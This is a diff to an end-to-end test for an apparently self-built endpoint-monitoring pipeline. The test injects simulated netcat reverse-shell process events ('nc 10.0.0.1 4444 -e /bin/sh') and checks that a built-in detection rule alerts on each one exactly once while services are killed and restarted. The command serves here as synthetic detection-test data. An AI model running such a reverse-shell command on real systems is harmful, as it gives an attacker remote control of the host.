@@ -2,7 +2,9 @@
 // and one `vigil api`, on a private NATS JetStream server (its own port and store, so restarting it
 // disturbs no one), the ClickHouse HTTP test fixture and a fresh PostgreSQL database. Simulated agents
 // stream while one worker and one ingest are SIGKILLed (and restarted, as a supervisor would) and NATS is
-// restarted once. Then every acknowledged event is stored exactly once, and nothing else is.
+// restarted once. Then every acknowledged event is stored exactly once, and nothing else is; and every
+// acknowledged netcat reverse shell (one event in some batches) raised its built-in rule's alert exactly
+// once: in the PostgreSQL alert store, through the API, and on the `alerts.default` stream.
 
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -14,6 +16,11 @@ import { join } from 'node:path';
 import { randomBytes } from 'node:crypto';
 import pg from 'pg';
 import { SimulatedAgent } from '../../src/agent/simulator.ts';
+import { jsonCodec } from '../../src/bus/codec.ts';
+import { JetStreamBus } from '../../src/bus/jetstream.ts';
+import { alertId } from '../../src/detect/alerts.ts';
+import { PostgresAlertStore } from '../../src/stores/alerts/postgres.ts';
+import type { StoredAlert } from '../../src/stores/alerts/types.ts';
 import { loadOrCreateCa } from '../../src/pki/pki.ts';
 import { issueEnrollmentToken } from '../../src/server/enrollment-tokens.ts';
 import { ApiKeys } from '../../src/identity/api-key.ts';
@@ -29,6 +36,9 @@ const AGENTS = 6;
 const BATCH = 25;
 const BATCHES = 60; // per agent, ~70 ms apart: the faults below land mid-stream
 const TOTAL = AGENTS * BATCHES * BATCH;
+const NETCAT_EVERY = 6; // every 6th batch of an agent carries one reverse shell
+const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
+const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
 
 async function pgAdmin(sql: string): Promise<void> {
   const c = new pg.Client(PG_ADMIN);
@@ -103,15 +113,17 @@ after(async () => {
 });
 
 /** An agent that re-sends a batch until it is acknowledged, as the spool does; records acknowledged ids. */
-async function streamBatches(agent: SimulatedAgent, batches: number, acked: Set<string>, stats: { retries: number }): Promise<void> {
+async function streamBatches(agent: SimulatedAgent, batches: number, acked: Set<string>, stats: { retries: number; shells: string[] }): Promise<void> {
   for (let b = 0; b < batches; b++) {
-    const events = agent.syntheticEvents(BATCH);
+    const shell = b % NETCAT_EVERY === 0 ? agent.syntheticEvents(1, NETCAT) : [];
+    const events = [...agent.syntheticEvents(BATCH - shell.length), ...shell];
     for (;;) {
       try {
         agent.connect();
         const ack = await Promise.race([agent.send(events), sleep(15_000).then(() => { throw new Error('ack timeout'); })]);
         assert.equal(ack.accepted, BATCH);
         for (const e of events) acked.add(e.event.id);
+        stats.shells.push(...shell.map((e) => e.event.id));
         break;
       } catch {
         stats.retries++;
@@ -123,7 +135,7 @@ async function streamBatches(agent: SimulatedAgent, batches: number, acked: Set<
   }
 }
 
-test('SIGKILLed worker and ingest, restarted NATS: every acknowledged event stored exactly once', { timeout: 170_000 }, async () => {
+test('SIGKILLed worker and ingest, restarted NATS: every acknowledged event stored once, every alert raised once', { timeout: 170_000 }, async () => {
   const ingestPorts = [await freePort(), await freePort()];
   const ingestArgs = (i: number) => ['ingest', '--grpc', `127.0.0.1:${ingestPorts[i]}`];
   const workerArgs = (i: number) => ['worker', '--partitions', i === 0 ? '0,1' : '2,3', '--worker-batch', '64'];
@@ -143,7 +155,7 @@ test('SIGKILLed worker and ingest, restarted NATS: every acknowledged event stor
   await metadata.close();
 
   const acked = new Set<string>();
-  const stats = { retries: 0 };
+  const stats = { retries: 0, shells: [] as string[] };
   const load = Promise.all(agents.map((a) => streamBatches(a, BATCHES, acked, stats)));
 
   const progress = async (n: number) => {
@@ -186,9 +198,51 @@ test('SIGKILLed worker and ingest, restarted NATS: every acknowledged event stor
 
   const hosts = await (await fetch(`http://${api.addresses.http}/api/v1/hosts`, { headers: { authorization: `Bearer ${apiKey}` } })).json() as unknown;
   assert.equal(JSON.stringify(hosts).match(/sim-\d/g)?.length, AGENTS, 'the API process lists every agent');
+  await assertAlertsOnce(stats.shells.map((id) => alertId(NETCAT_RULE, [id])), api.addresses.http, apiKey);
+
   const ready = await fetch(`http://${workers[1].addresses.health}/readyz`);
   assert.equal(ready.status, 200);
 
   await Promise.all([...ingests, ...workers, api].map((p) => kill(p.child, 'SIGTERM')));
-  console.log(JSON.stringify({ acked: acked.size, agentRetries: stats.retries }));
+  console.log(JSON.stringify({ acked: acked.size, agentRetries: stats.retries, alerts: stats.shells.length }));
 });
+
+/** Each expected alert id exactly once in the store, through the API and on the alerts stream; no other netcat alert. */
+async function assertAlertsOnce(expected: string[], http: string, apiKey: string): Promise<void> {
+  assert.equal(expected.length, AGENTS * Math.ceil(BATCHES / NETCAT_EVERY));
+  const want = [...expected].sort();
+  const store = new PostgresAlertStore({ connectionString: `postgres://postgres@127.0.0.1:5432/${database}` });
+  try {
+    let stored: string[] = [];
+    for (let i = 0; i < 200 && stored.length < want.length; i++) {
+      stored = (await store.list({ tenantId: 'default', ruleId: NETCAT_RULE, limit: 1000 })).alerts.map((a) => a.id).sort();
+      if (stored.length < want.length) await sleep(250);
+    }
+    assert.deepEqual(stored, want, 'every reverse shell raised one alert in the store, nothing more');
+  } finally {
+    await store.close();
+  }
+  const page = await (await fetch(`http://${http}/api/v1/alerts?rule=${NETCAT_RULE}&limit=1000`, { headers: { authorization: `Bearer ${apiKey}` } })).json() as { alerts: { id: string; status: string }[] };
+  assert.deepEqual(page.alerts.map((a) => a.id).sort(), want, 'the API process lists the same alerts');
+  assert.ok(page.alerts.every((a) => a.status === 'open'));
+  assert.deepEqual(await publishedAlertIds(want.length), want, 'each alert published once on alerts.default');
+}
+
+/** Reads the alerts stream from its start with a consumer group of its own: `count` messages, then a quiet second (30 s at most). */
+async function publishedAlertIds(count: number): Promise<string[]> {
+  const bus = await JetStreamBus.connect<StoredAlert>({ servers: `nats://127.0.0.1:${natsPort}`, codec: jsonCodec(), consumerGroup: 'e2e-check' });
+  const ids: string[] = [];
+  let last = Date.now();
+  const sub = bus.consume('alerts.default', async (batch) => {
+    ids.push(...batch.filter((m) => m.payload.rule.id === NETCAT_RULE).map((m) => m.payload.id));
+    last = Date.now();
+  }, { maxBatch: 256, maxWaitMs: 50 });
+  const deadline = Date.now() + 30_000;
+  try {
+    while ((ids.length < count || Date.now() - last < 1000) && Date.now() < deadline) await sleep(100);
+  } finally {
+    await sub.stop();
+    await bus.close();
+  }
+  return ids.sort();
+}
